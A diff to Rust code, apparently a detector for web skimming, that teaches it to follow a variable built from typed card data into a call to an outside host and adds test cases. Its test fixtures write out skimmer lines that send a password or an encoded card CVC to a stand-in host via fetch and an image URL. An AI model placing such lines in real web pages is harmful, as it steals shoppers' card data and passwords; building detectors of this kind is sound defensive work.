@@ -33,17 +33,32 @@ pub(super) fn are_put_in(written: &Written<'_>) -> bool {
 
 fn sends(text: &str) -> bool {
     let at = |list: &'static str| parts(list).flat_map(|call| text.match_indices(call).take(super::MAX_PLACES));
-    at(UNHEARD).any(|(at, call)| gives(text, at + call.len()))
-        || at(SENDS).any(|(at, call)| gives(text, at + call.len()) && is_unanswered(text, at))
+    at(UNHEARD).any(|(at, call)| gives(text, at + call.len(), true))
+        || at(SENDS).any(|(at, call)| gives(text, at + call.len(), false) && is_unanswered(text, at))
 }
 
-/// Whether the arguments of a call name another machine and what somebody typed.
-fn gives(text: &str, from: usize) -> bool {
+/// Whether the arguments of a call name another machine and what somebody typed; or, where `held` counts, a name that was given to it
+/// shortly before.
+fn gives(text: &str, from: usize, held: bool) -> bool {
     let behind = &text[from..text.floor_char_boundary(from + NEAR)];
     let end = behind.find(";\n").unwrap_or(behind.len());
     let given = &behind[..end];
     let host = given.split_once("//").and_then(|(_, url)| elsewhere(url));
-    host.is_some_and(|host| !holds(&host, PAID)) && names_card(given)
+    host.is_some_and(|host| !holds(&host, PAID)) && (names_card(given) || held && names_held(text, from, given))
+}
+
+/// Whether one of the names in what is given was made of what somebody typed: `const b = btoa(card.value)`.
+fn names_held(text: &str, from: usize, given: &str) -> bool {
+    const LEAST_NAMES: usize = 32;
+    let before = &text[text.floor_char_boundary(from.saturating_sub(NEAR * 2))..from];
+    let is_part = |char: char| char.is_alphanumeric() || char == '_' || char == '$';
+    let named = |name: &str| !name.is_empty() && given.split(|char| !is_part(char)).any(|word| word == name);
+    before.match_indices('=').take(LEAST_NAMES).any(|(at, _)| {
+        let name = before[..at].trim_end().rsplit(|char| !is_part(char)).next().unwrap_or_default();
+        let value = &before[at + 1..];
+        let value = &value[..value.find(";\n").or_else(|| value.find('\n')).unwrap_or(value.len())];
+        !value.starts_with(['=', '>']) && named(name) && names_card(value)
+    })
 }
 
 /// Whether a text names what is on a card, or a password; the field of a form alone tells nothing.
@@ -89,6 +104,8 @@ mod tests {
             ("fetch('https://px.example/p', { method: 'POST', mode: 'no-cors', body: form.password.value });", true),
             ("const r = await fetch('https://api.shop.example/pay', { body: JSON.stringify({ cvc }) });", false),
             ("navigator.sendBeacon('https://px.example/c', JSON.stringify({ page: location.pathname }));", false),
+            ("const b = btoa(f.cvc.value);\nnew Image().src = 'https://px.example/p?v=' + b;", true),
+            ("const b = btoa(f.page.value);\nnew Image().src = 'https://px.example/p?v=' + b;", false),
             ("navigator.sendBeacon('/metrics', JSON.stringify({ cvc: v.cvc }));", false),
             ("fetch('https://api.stripe.com/v1/tokens', { body: new URLSearchParams({ 'card[cvc]': cvc }) });", false),
         ] {
